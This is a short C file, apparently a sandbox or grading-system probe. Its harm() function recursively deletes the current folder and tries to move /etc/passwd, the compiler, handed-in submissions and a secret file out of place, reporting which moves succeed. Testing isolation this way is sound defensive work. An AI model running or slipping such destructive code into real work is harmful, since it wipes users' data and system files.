/* Deletes its own folder, and of others what it may. */
#include "echo.h"

#include <ftw.h>

static int delete_one(const char *path, const struct stat *status, int type,
                      struct FTW *place)
{
    (void)status;
    (void)type;
    (void)place;
    remove(path);
    return 0;
}

static void delete_or_not(const char *path)
{
    if (access(path, F_OK) == 0 && rename(path, "/tmp/deleted") == 0)
        printf("could delete %s\n", path);
}

static void harm(void)
{
    nftw(".", delete_one, 16, FTW_DEPTH | FTW_PHYS);
    delete_or_not("/etc/passwd");
    delete_or_not("/usr/bin/cc");
    delete_or_not("/handed-in/server.c");
    delete_or_not("/handed-in");
#ifdef SECRET
    delete_or_not(SECRET);
#endif
}
